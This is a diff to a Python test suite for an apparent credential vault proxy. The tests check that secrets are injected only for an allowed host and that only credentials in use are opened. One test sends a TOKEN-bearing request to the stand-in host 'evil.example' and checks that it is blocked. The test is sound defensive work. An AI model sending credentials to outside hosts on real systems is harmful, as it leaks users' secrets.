@@ -154,6 +154,8 @@ async def test_another_host_gets_nothing_and_the_session_is_told_once_a_turn(fou
             status, text = await one.ask(f"{scheme}://evil.example/", **more)
             assert status == 403 and "TOKEN may not be sent to evil.example" in text and "api.example" in text
         assert not found.seen
+        # The vault has it on record, and was asked for nothing else.
+        assert {(asked.host, tuple(asked.names)) for asked in vault.asked} == {("evil.example", ("TOKEN",))}
         (problem,) = one.secrets.take_problems()
         assert (problem.vault_id, problem.credential_id) == ("vlt_1", "vcrd_token")
         assert not one.secrets.take_problems()
@@ -338,6 +340,16 @@ async def test_nothing_is_opened_that_is_not_used_and_a_rotation_is_used_at_once
         # What came before is taken out of answers still.
         _, text = await one.ask("https://api.example/echo", data="first-value second-value")
         assert "value" not in text
+
+
+async def test_of_several_credentials_only_those_in_use_are_opened(found: Hosts) -> None:
+    vault = Vault(*(variable(name, f"value-of-{name}", "api.example") for name in ("ONE", "TWO", "THREE")))
+    async with way(found, vault) as one:
+        texts = [await one.placeholder(name) for name in ("ONE", "TWO")]
+        await one.ask("https://api.example/", headers={"x-token": texts[0]}, data=f"{texts[1]}, {texts[0]}")
+        assert found.seen[0].headers["x-token"] == "value-of-ONE"
+        assert found.seen[0].body == b"value-of-TWO, value-of-ONE"
+        assert [list(asked.names) for asked in vault.asked] == [["ONE"], ["TWO"]]
 
 
 async def test_an_archived_credential_is_refused_and_a_vault_that_is_down_is_told(found: Hosts) -> None:
